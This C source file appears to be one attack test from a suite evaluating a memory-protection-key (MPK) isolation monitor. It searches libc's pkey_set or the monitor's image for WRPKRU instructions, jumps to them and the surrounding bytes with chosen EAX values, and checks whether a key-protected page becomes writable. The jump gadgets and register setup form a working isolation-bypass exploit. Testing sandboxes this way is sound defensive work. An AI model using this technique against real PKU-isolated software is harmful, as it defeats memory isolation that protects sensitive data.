/*
 * I3: jumps to WRPKRU in code that is trusted with it, and to the bytes around, with EAX of the
 * attacker's choice. Natively that code is libc's pkey_set, and opens a page that a key closes.
 */
#include "attack.h"
#include <dlfcn.h>
#include <sys/resource.h>

#define AROUND    48 /* bytes before and behind each WRPKRU */
#define SITES_MAX 32

static const uint8_t wrpkru[] = {0x0f, 0x01, 0xef};
static uintptr_t sites[SITES_MAX];
static size_t site_count;
static uint64_t *target;
static struct report *report;

static void find_in_libc(void)
{
    void *handle = dlopen("libc.so.6", RTLD_NOW);
    const uint8_t *code = handle ? dlsym(handle, "pkey_set") : NULL;
    CHECK(code != NULL, "no pkey_set in libc");
    for (int i = 0; i < 256; i++) {
        if (memcmp(code + i, wrpkru, sizeof wrpkru) == 0) {
            sites[site_count++] = (uintptr_t)code + (uintptr_t)i;
        }
    }
}

static void find_in_monitor(void)
{
    site_count = find_in_image(wrpkru, sizeof wrpkru, sites, SITES_MAX);
}

/* What it comes back to, if it does: by a return, or by the gate. */
__asm__(".pushsection .text\n"
        "jump_into:\n" /* (to, EAX, stack) */
        "    mov %rdx, %rsp\n"
        "    mov %rdi, %rbx\n"
        "    mov %esi, %eax\n"
        "    xor %ecx, %ecx\n"
        "    xor %edx, %edx\n"
        "    lea landed(%rip), %r11\n"
        "    mov %r11, %rbp\n"
        "    jmp *%rbx\n"
        ".popsection\n");
extern const uint8_t jump_into[] __attribute__((visibility("hidden")));

__attribute__((used, noreturn)) static void landed_here(void)
{
    *(volatile uint64_t *)target = FOREIGN_VALUE;
    report->done = 1;
    for (;;) {
        __asm__ volatile("pause");
    }
}

__asm__(".pushsection .text\n"
        "landed:\n"
        "    lea landing_stack+32768(%rip), %rsp\n"
        "    call landed_here\n"
        ".popsection\n");
extern const uint8_t landed[] __attribute__((visibility("hidden")));
uint8_t landing_stack[65536] __attribute__((aligned(64), visibility("hidden")));

static volatile bool jumped;

static void jump(uintptr_t to, uint32_t eax)
{
    static uintptr_t stack[8192];
    void (*into)(uintptr_t, uint32_t, uintptr_t *);
    const uint8_t *code = jump_into;
    memcpy(&into, &code, sizeof into);
    for (size_t i = 0; i < sizeof stack / sizeof stack[0]; i++) {
        stack[i] = (uintptr_t)landed;
    }
    const struct rlimit second = {1, 1};
    MUST(setrlimit(RLIMIT_CPU, &second));
    for (int signo = 1; signo < 32; signo++) {
        signal(signo, SIG_DFL);
    }
    /*
     * A call that the monitor makes for the program: what it goes on with lies on its stack then.
     * If it goes on with that once more, the program has the registers of the call again; every
     * other way back leaves RBX as it was at the jump.
     */
    const struct timespec now = {0};
    const uint64_t mask = 0;
    register const uint64_t *r10 __asm__("r10") = &mask;
    register long r8 __asm__("r8") = KERNEL_SIGSET_BYTES;
    long result = SYS_ppoll;
    uint64_t kept = FOREIGN_VALUE;
    __asm__ volatile("syscall"
                     : "+a"(result), "+b"(kept)
                     : "D"(NULL), "S"(0), "d"(&now), "r"(r10), "r"(r8)
                     : "rcx", "r11", "memory");
    if (jumped) {
        report->done = kept == FOREIGN_VALUE;
        while (report->done) {
            __asm__ volatile("pause");
        }
        raw(SYS_exit_group, 1);
    }
    jumped = true;
    into(to, eax, stack + 4096);
}

static bool opens(uintptr_t to, uint32_t eax)
{
    report->done = 0;
    pid_t pid = MUST(fork());
    if (pid == 0) {
        jump(to, eax);
        _exit(0);
    }
    int status;
    while (waitpid(pid, &status, WNOHANG) == 0) {
        if (report->done) {
            MUST(kill(pid, SIGKILL));
            wait_for(pid);
            return true;
        }
        usleep(100);
    }
    return report->done;
}

int main(void)
{
    static const uint32_t values[] = {0, 0x55555554, 0x55555540, 0x55555549};
    report = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (under_monitor()) {
        target = target_page();
        find_in_monitor();
    } else {
        int key = MUST(pkey_alloc(0, PKEY_DISABLE_ACCESS));
        target = map_pages(PAGE, PROT_READ | PROT_WRITE);
        MUST(pkey_mprotect(target, PAGE, PROT_READ | PROT_WRITE, key));
        find_in_libc();
    }
    CHECK(site_count > 0, "no WRPKRU was found");
    for (size_t i = 0; i < site_count; i++) {
        for (int at = -AROUND; at <= AROUND; at++) {
            uint32_t eax = values[(unsigned)(at + AROUND) % 4];
            if (opens(sites[i] + (uintptr_t)at, at == 0 ? 0 : eax)) {
                reached();
            }
        }
        for (size_t value = 0; value < 4; value++) {
            if (opens(sites[i], values[value])) {
                reached();
            }
        }
    }
    not_reached("closed");
}
